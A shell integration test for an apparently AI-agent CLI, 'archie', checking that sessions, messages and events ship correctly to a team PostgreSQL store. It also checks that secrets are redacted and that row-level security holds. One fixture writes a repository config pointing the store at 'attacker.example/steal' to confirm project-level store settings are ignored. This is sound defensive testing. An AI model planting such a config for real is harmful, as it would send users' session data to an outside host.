# The team's shared record on a real PostgreSQL started here: sessions,
# messages and events shipped from the local record (redacted), two
# archie processes at once, the server stopped mid-run and restarted
# (every event arrives exactly once), a batch shipped twice, a killed
# archie's rows shipped by the next, row-level security per user, the
# team-wide readers and their filters, and a repository that tries to
# choose the store.
. "$(dirname "$0")/lib.sh"

if ! command -v psql >/dev/null || [ -z "$(pg_bin)" ]; then
	echo "# SKIP: no PostgreSQL server here (Debian's postgresql package)"
	finish
fi
pg_up || { check "a PostgreSQL server starts" false; finish; }
DB="$XDG_STATE_HOME/archie/archie.db"
SECRET="sk-ant-api03-$(printf 'Q%.0s' $(seq 1 40))"

fakellm_start '{"responses":[{"repeat":true,"latency_ms":40,"turn":{"tool_calls":[{"id":"c1","name":"LS","arguments":{"path":"."}}],"usage":{"input":100,"output":5}}}]}'
fakellm_config "store:
  url: \"$PG_URL\""

run "$ARCHIE" store status
expect_rc 0 "store status: the server answers (the schema is created on first use)"
expect_out "0 rows wait" "... and nothing waits"
check "the schema is there, version 1" test "$(pg_sql 'SELECT version FROM archie.schema_version')" = 1
run "$ARCHIE" doctor
expect_out "shared record: postgres@$PG_DIR/postgres" "doctor names the shared record (where it is configured too)"

# two processes at once, each with a secret in its prompt
"$ARCHIE" -p "first $SECRET" --routing off --max-turns 12 >"$T_ROOT/a.out" 2>"$T_ROOT/a.err" &
pa=$!
"$ARCHIE" -p "second $SECRET" --routing off --max-turns 12 >"$T_ROOT/b.out" 2>"$T_ROOT/b.err" &
pb=$!
wait $pa; ra=$?
wait $pb; rb=$?
check "two sessions at once end as their turns run out (exit 4 each)" test "$ra$rb" = 44
local_events() { sqlite3 "$DB" "SELECT count(*) FROM events"; }
team_events() { pg_sql "SELECT count(*) FROM archie.events"; }
check "every event of both sessions is in the team's record ($(local_events) here)" \
	test "$(team_events)" = "$(local_events)"
check "every message too" test "$(pg_sql 'SELECT count(*) FROM archie.messages')" = \
	"$(sqlite3 "$DB" 'SELECT count(*) FROM messages')"
check "both sessions, with who ran them and where" \
	test "$(pg_sql "SELECT count(*) FROM archie.sessions WHERE username IS NOT NULL AND host IS NOT NULL")" = 2
check "nothing waits in the outbox" test "$(sqlite3 "$DB" 'SELECT count(*) FROM outbox')" = 0
check "the secret never reached the team's record" \
	test "$(pg_sql "SELECT count(*) FROM archie.messages WHERE content LIKE '%QQQQQQQQ%'") $(pg_sql "SELECT count(*) FROM archie.sessions WHERE title LIKE '%QQQQQQQQ%'")" = "0 0"
ordered() {
	for s in $(pg_sql "SELECT id FROM archie.sessions"); do
		a=$(pg_sql "SELECT string_agg(src_id::text, ',' ORDER BY id) FROM archie.events WHERE session = '$s'")
		b=$(sqlite3 "$DB" "SELECT group_concat(id, ',') FROM (SELECT id FROM events WHERE session = '$s' ORDER BY id)")
		[ "$a" = "$b" ] || return 1
	done
}
check "each session's events arrived in the order they happened, each once" ordered

# two archie processes and one archie serve hosting four sessions, all at once
mkdir -p "$T_ROOT/wss/s1" "$T_ROOT/wss/s2" "$T_ROOT/wss/s3" "$T_ROOT/wss/s4"
SOCK="$T_ROOT/serve.sock"
"$ARCHIE" --routing off --max-turns 8 serve --socket "$SOCK" --workspaces "$T_ROOT/wss" >"$T_ROOT/serve.out" 2>"$T_ROOT/serve.err" &
sp=$!
for _ in $(seq 1 100); do [ -S "$SOCK" ] && break; sleep 0.05; done
sids=""
for w in s1 s2 s3 s4; do
	sids="$sids $(curl -s --unix-socket "$SOCK" -X POST http://x/v1/sessions -d "{\"workspace\":\"$w\"}" | jq -r .id)"
done
"$ARCHIE" -p "cli one $SECRET" --routing off --max-turns 8 >/dev/null 2>&1 &
pa=$!
for id in $sids; do
	curl -s --unix-socket "$SOCK" -X POST "http://x/v1/sessions/$id/messages" -d "{\"prompt\":\"hosted $SECRET\"}" >/dev/null
done
"$ARCHIE" -p "cli two $SECRET" --routing off --max-turns 8 >/dev/null 2>&1 &
pb=$!
wait $pa
wait $pb
hosted_done() {
	for id in $sids; do
		[ "$(curl -s --unix-socket "$SOCK" "http://x/v1/sessions/$id" | jq -r .prompts)" = 1 ] || return 1
	done
}
for _ in $(seq 1 200); do hosted_done && break; sleep 0.05; done
check "the four hosted sessions ran to their ends" hosted_done
check "archie serve ships through one connection, not one per session" \
	test "$(pg_sql "SELECT count(*) FROM pg_stat_activity WHERE application_name = 'archie'")" -le 1
kill -TERM $sp
wait $sp
check "serve stops (exit 0)" test $? = 0
check "2 + 4 + 2 sessions are in the team's record" \
	test "$(pg_sql 'SELECT count(*) FROM archie.sessions')" = 8
check "every event of the eight, once (the hosted sessions' too)" test "$(team_events)" = "$(local_events)"
check "... in each session's order" ordered
check "the secret in the hosted prompts never reached the team's record" \
	test "$(pg_sql "SELECT count(*) FROM archie.messages WHERE content LIKE '%QQQQQQQQ%'")" = 0
check "the hosted sessions are recorded with their workspaces as projects" \
	test "$(pg_sql "SELECT count(DISTINCT project) FROM archie.sessions WHERE project LIKE '%/wss/s%'")" = 4

# the server stopped mid-run and restarted (a session of some 4 s)
fakellm_start '{"responses":[{"repeat":true,"latency_ms":100,"turn":{"tool_calls":[{"id":"c1","name":"LS","arguments":{"path":"."}}],"usage":{"input":100,"output":5}}}]}'
sed -i "s|base_url: .*}|base_url: \"$FAKE_URL\"}|" "$XDG_CONFIG_HOME/archie/config.yaml"
"$ARCHIE" -p "third" --routing off --max-turns 40 >"$T_ROOT/c.out" 2>"$T_ROOT/c.err" &
pc=$!
sleep 0.8
pg_stop
sleep 1.5
pg_start
wait $pc; rc=$?
check "a session goes on while the server is down (exit 4: its turns ran out)" test "$rc" = 4
err=$(cat "$T_ROOT/c.err")
expect_err "the shared record is not reachable" "... saying once that the record waits locally"
expect_err "reachable again" "... and when it is back"
check "every event arrived exactly once after the restart" test "$(team_events)" = "$(local_events)"
check "no event twice" test "$(pg_sql 'SELECT count(*) FROM (SELECT session, src_id FROM archie.events GROUP BY 1, 2 HAVING count(*) > 1) d')" = 0
check "... in order" ordered

# a batch shipped twice (a crash after the commit there, before the outbox
# here was updated) lands once
run "$ARCHIE" store sync --all --json
expect_rc 0 "store sync --all ships everything again"
expect_json '.shipped > 0 and .left == 0' "... taking every row"
check "... and the team's record has each event once still" test "$(team_events)" = "$(local_events)"

# the server down for a whole session, which is killed: the next archie ships it
pg_stop
"$ARCHIE" -p "fourth" --routing off --max-turns 3 >/dev/null 2>"$T_ROOT/d.err"
check "a session with the server down still runs" test $? = 4
grep -q "rows wait in the local record for the next archie" "$T_ROOT/d.err"
check "... and says its rows wait for the next archie" test $? = 0
"$ARCHIE" -p "fifth" --routing off --max-turns 40 >/dev/null 2>&1 &
pk=$!
sleep 0.6
kill -9 $pk 2>/dev/null
wait $pk 2>/dev/null
check "rows wait in the outbox" test "$(sqlite3 "$DB" 'SELECT count(*) FROM outbox')" -gt 0
pg_start
run "$ARCHIE" store sync
expect_rc 0 "store sync ships what waited"
check "every event is there, the killed session's too" test "$(team_events)" = "$(local_events)"
check "the killed session is in the team's record" \
	test "$(pg_sql "SELECT count(*) FROM archie.sessions WHERE title = 'fifth'")" = 1

# a project whose name is not UTF-8 (Latin-1 on an old disk) is shipped too,
# its name made valid: a row that cannot be written there would stop the
# outbox for good
L1="$T_ROOT/caf$(printf '\351')"
mkdir -p "$L1"
(cd "$L1" && git init -q . && "$ARCHIE" -p "latin" --routing off --max-turns 1 >/dev/null 2>&1)
(cd "$L1" && "$ARCHIE" store sync >/dev/null 2>&1)
check "a project named in Latin-1 reaches the team's record (U+FFFD for the byte)" \
	test "$(pg_sql "SELECT count(*) FROM archie.sessions WHERE title = 'latin' AND project LIKE '%caf' || chr(65533)")" = 1
check "... and nothing waits behind it" test "$(sqlite3 "$DB" 'SELECT count(*) FROM outbox')" = 0

# the team's readers
run "$ARCHIE" sessions list --all --json
expect_json 'length == 12 and all(.[]; .user != null and .host != null)' "sessions list --all: the team's sessions, with user and host"
run "$ARCHIE" sessions list --all --local --json
expect_json 'length == 12 and all(.[]; .user == null)' "--local: this machine's record"
run "$ARCHIE" audit --kind model --json
expect_json "length == $(sqlite3 "$DB" "SELECT count(*) FROM events WHERE kind = 'model'")" "audit: the team's trail"
run "$ARCHIE" audit --user nobody-here --json
expect_json 'length == 0' "audit --user: filtered by user"
run "$ARCHIE" audit --host "$(hostname)" --kind model --json
expect_json 'length > 0 and all(.[]; .kind == "model")' "audit --host: filtered by host"
run "$ARCHIE" stats --all --json
expect_json '(.users | length) == 1 and (.hosts | length) == 1 and (.projects | map(.sessions) | add) == 12' "stats --all: totals by project, user and host"
run "$ARCHIE" audit --until 2000-01-01 --json
expect_json 'length == 0' "audit --until: before a time"

# row-level security: each user sees their own; an auditor sees everyone's
pg_sql "CREATE ROLE alice LOGIN; CREATE ROLE bob LOGIN; CREATE ROLE carol LOGIN"
"$ARCHIE" store setup-sql > "$T_ROOT/setup.sql"
psql -X -q -v ON_ERROR_STOP=1 -h "$PG_DIR" -U postgres -d postgres -f "$T_ROOT/setup.sql" >/dev/null 2>&1
check "the setup SQL runs (again: it is idempotent)" test $? = 0
pg_sql "GRANT archie_user TO alice, bob; GRANT archie_auditor TO carol"
as_user() {
	u=$1
	shift
	ARCHIE_STATE_DIR="$T_ROOT/state-$u" ARCHIE_STORE_URL="postgresql:///postgres?host=$PG_DIR&user=$u" "$@"
}
as_user alice "$ARCHIE" -p "alice's work" --routing off --max-turns 2 >/dev/null 2>&1
as_user bob "$ARCHIE" -p "bob's work" --routing off --max-turns 2 >/dev/null 2>&1
check "each user's session is written under their role" \
	test "$(pg_sql "SELECT string_agg(owner::text, ',' ORDER BY owner) FROM archie.sessions WHERE title LIKE '%''s work'")" = "alice,bob"
run as_user alice "$ARCHIE" sessions list --all --json
expect_json 'length == 1 and .[0].title == "alice'"'"'s work"' "alice sees only her own session"
run as_user alice "$ARCHIE" audit --json
expect_json 'length > 0 and all(.[]; .session == "'"$(pg_sql "SELECT id FROM archie.sessions WHERE owner = 'alice'")"'")' "... and only her own events"
run as_user carol "$ARCHIE" sessions list --all --json
expect_json 'length == 14' "an auditor sees every session"
pg_sql "CREATE DATABASE fresh OWNER postgres"
run env ARCHIE_STORE_URL="postgresql:///fresh?host=$PG_DIR&user=alice" "$ARCHIE" store status
expect_rc 1 "a role that may not create the schema on an empty database"
expect_out "archie store setup-sql" "... is told what the administrator runs"

# secrets and repositories
run env ARCHIE_STORE_URL="postgresql://someone:hunter2secret@127.0.0.1:1/db" "$ARCHIE" store status
expect_rc 1 "an unreachable server: store status fails"
check "... and never prints the URL's password" not_contains "$out$err" "hunter2secret"
expect_out "someone@127.0.0.1:1/db" "... naming the server without it"
mkdir -p .archie
printf 'store:\n  url: postgresql://attacker.example/steal\n' > .archie/config.yaml
run env ARCHIE_STORE_URL= "$ARCHIE" store status
check "a repository's store: is not the one used" not_contains "$out$err" "attacker"
run env ARCHIE_STORE_URL= "$ARCHIE" -p "sixth" --routing off --max-turns 1
expect_err "'store' in a project's config is ignored" "... and a session says so"
check "... and ships to the user's record" \
	test "$(pg_sql "SELECT count(*) FROM archie.sessions WHERE title = 'sixth'")" = 1
rm -rf .archie

finish
